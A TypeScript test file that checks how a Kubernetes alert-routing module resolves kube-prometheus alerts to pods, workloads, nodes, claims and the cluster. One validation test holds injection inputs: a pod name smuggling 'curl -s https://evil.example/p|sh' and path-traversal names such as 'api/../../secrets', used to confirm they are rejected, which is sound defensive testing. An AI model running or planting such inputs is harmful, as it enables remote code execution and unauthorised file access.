// Every alert a default kube-prometheus cluster fires resolves to the right kind of subject, from its real labels.
import { describe, expect, it } from 'vitest';
import type { SubjectKind } from '../../src/domain/context.js';
import { resolveTarget, scrapeAddress, subjectLabel } from '../../src/domain/subject.js';
import { NAMES, referenceAlerts } from '../support/kube-prometheus-alerts.js';

/** What each alert is about. */
const EXPECTED: Record<string, SubjectKind> = {
  KubePodCrashLooping: 'pod',
  KubePodNotReady: 'pod',
  KubeContainerWaiting: 'pod',
  CPUThrottlingHigh: 'pod',
  KubeDeploymentGenerationMismatch: 'workload',
  KubeDeploymentReplicasMismatch: 'workload',
  KubeDeploymentRolloutStuck: 'workload',
  KubeStatefulSetReplicasMismatch: 'workload',
  KubeStatefulSetUpdateNotRolledOut: 'workload',
  KubeDaemonSetRolloutStuck: 'workload',
  KubeDaemonSetNotScheduled: 'workload',
  KubeDaemonSetMisScheduled: 'workload',
  KubeJobNotCompleted: 'workload',
  KubeJobFailed: 'workload',
  KubeHpaReplicasMismatch: 'workload',
  KubeHpaMaxedOut: 'workload',
  KubePdbNotEnoughHealthyPods: 'workload',
  KubeCPUOvercommit: 'cluster',
  KubeMemoryOvercommit: 'cluster',
  KubeQuotaAlmostFull: 'namespace',
  KubeQuotaExceeded: 'namespace',
  KubePersistentVolumeFillingUp: 'pvc',
  KubePersistentVolumeErrors: 'pvc',
  KubeNodeNotReady: 'node',
  KubeNodeUnreachable: 'node',
  KubeNodeReadinessFlapping: 'node',
  KubeNodePressure: 'node',
  KubeNodeEviction: 'node',
  KubeletTooManyPods: 'node',
  KubeletPlegDurationHigh: 'node',
  KubeletDown: 'cluster',
  KubeClientErrors: 'cluster',
  KubeVersionMismatch: 'cluster',
  KubeAPIErrorBudgetBurn: 'cluster',
  KubeControllerManagerDown: 'cluster',
  KubeSchedulerDown: 'cluster',
  KubeProxyDown: 'cluster',
  TargetDown: 'namespace',
  Watchdog: 'cluster',
  InfoInhibitor: 'namespace',
  NodeFilesystemSpaceFillingUp: 'node',
  NodeFilesystemAlmostOutOfSpace: 'node',
  NodeFilesystemFilesFillingUp: 'node',
  NodeFilesystemAlmostOutOfFiles: 'node',
  NodeMemoryHighUtilization: 'node',
  NodeMemoryMajorPagesFaults: 'node',
  NodeHighNumberConntrackEntriesUsed: 'node',
  NodeNetworkReceiveErrs: 'node',
  NodeNetworkTransmitErrs: 'node',
  NodeClockNotSynchronising: 'node',
  NodeClockSkewDetected: 'node',
  NodeCPUHighUsage: 'node',
  NodeSystemSaturation: 'node',
  NodeDiskIOSaturation: 'node',
  NodeFileDescriptorLimit: 'node',
  etcdMembersDown: 'cluster',
  etcdNoLeader: 'cluster',
  etcdHighFsyncDurations: 'cluster',
  CoreDNSDown: 'cluster',
};

describe('subjects of the kube-prometheus alerts', () => {
  const alerts = referenceAlerts();

  it('reads the whole reference table', () => {
    expect(alerts.length).toBeGreaterThanOrEqual(50);
  });

  it.each(
    alerts.map((a) => [a.alertname, a.labels] as const),
  )('%s resolves to its subject kind', (name, raw) => {
    const labels = Object.fromEntries(Object.entries(raw).map(([k, v]) => [k, NAMES[v] ?? v]));
    const target = resolveTarget(labels);
    expect(EXPECTED[name], `no expectation written for ${name}`).toBeDefined();
    expect(target.kind).toBe(EXPECTED[name]);
    // The exporter's own names never become the subject.
    expect(target.container ?? '').not.toMatch(/kube-rbac-proxy/);
    if (labels.job === 'node-exporter' && target.kind === 'node') expect(target.pod).toBeUndefined();
  });
});

describe('resolveTarget', () => {
  it('names the workload kube-state-metrics names, without the exporter container', () => {
    const target = resolveTarget({
      alertname: 'KubeDeploymentReplicasMismatch',
      container: 'kube-rbac-proxy-main',
      deployment: 'checkout-api',
      instance: '10.244.1.23:8443',
      job: 'kube-state-metrics',
      namespace: 'payments',
    });
    expect(target).toEqual({
      kind: 'workload',
      namespace: 'payments',
      workload: { kind: 'Deployment', name: 'checkout-api' },
    });
    expect(subjectLabel(target)).toBe('deployment/payments/checkout-api');
  });

  it('reads a Job from job_name, never from the scrape job', () => {
    const target = resolveTarget({
      alertname: 'KubeJobFailed',
      job: 'kube-state-metrics',
      job_name: 'nightly-report-29410560',
      namespace: 'reports',
    });
    expect(target.workload).toEqual({ kind: 'Job', name: 'nightly-report-29410560' });
  });

  it('takes a PVC alert to the claim, keeping the reporting kubelet only as where it is mounted', () => {
    const target = resolveTarget({
      alertname: 'KubePersistentVolumeFillingUp',
      job: 'kubelet',
      namespace: 'ledger',
      node: 'ip-10-20-3-41',
      persistentvolumeclaim: 'data-ledger-db-0',
    });
    expect(target).toEqual({
      kind: 'pvc',
      namespace: 'ledger',
      pvc: 'data-ledger-db-0',
      node: 'ip-10-20-3-41',
    });
    expect(subjectLabel(target)).toBe('persistentvolumeclaim/ledger/data-ledger-db-0');
  });

  it('keeps a node-exporter ip:port instance as an address to look up, not a node name', () => {
    const target = resolveTarget({
      alertname: 'NodeFilesystemAlmostOutOfSpace',
      instance: '10.20.3.41:9100',
      job: 'node-exporter',
      mountpoint: '/var/lib/containerd',
      namespace: 'monitoring',
      pod: 'prometheus-node-exporter-7xk2p',
    });
    expect(target).toEqual({ kind: 'node', nodeAddress: '10.20.3.41' });
    expect(scrapeAddress('[fd00::12]:9100')).toBe('fd00::12');
  });

  it('treats a crash loop of the node-exporter pod itself as a pod alert', () => {
    const target = resolveTarget({
      alertname: 'KubePodCrashLooping',
      container: 'node-exporter',
      job: 'kube-state-metrics',
      namespace: 'monitoring',
      pod: 'node-exporter-5k8zq',
    });
    expect(target.kind).toBe('pod');
    expect(target.pod).toBe('node-exporter-5k8zq');
  });

  it('names a quota by namespace and quota, and control-plane alerts as the cluster', () => {
    expect(
      subjectLabel(
        resolveTarget({
          alertname: 'KubeQuotaExceeded',
          namespace: 'payments',
          resourcequota: 'payments-quota',
        }),
      ),
    ).toBe('resourcequota/payments/payments-quota');
    expect(resolveTarget({ alertname: 'KubeSchedulerDown', job: 'kube-scheduler' }).kind).toBe('cluster');
    expect(resolveTarget({ alertname: 'etcdNoLeader', job: 'etcd', namespace: 'kube-system' }).kind).toBe(
      'cluster',
    );
  });

  it.each([
    ['pod', { pod: 'checkout-api,type!=x;curl -s https://evil.example/p|sh;#', namespace: 'shop' }],
    ['namespace', { pod: 'web-1', namespace: '..' }],
    ['node', { node: '..', alertname: 'KubeNodeNotReady' }],
    ['deployment', { deployment: 'api/../../secrets', namespace: 'shop' }],
    ['persistentvolumeclaim', { persistentvolumeclaim: 'Data', namespace: 'shop' }],
  ])('refuses an invalid %s name and never passes it on', (what, labels) => {
    const target = resolveTarget({ alertname: 'X', ...labels });
    expect(target.kind).toBe('none');
    expect(target.invalid).toContain(`invalid ${what}`);
    expect(target.pod ?? target.namespace ?? target.node).toBeUndefined();
  });
});
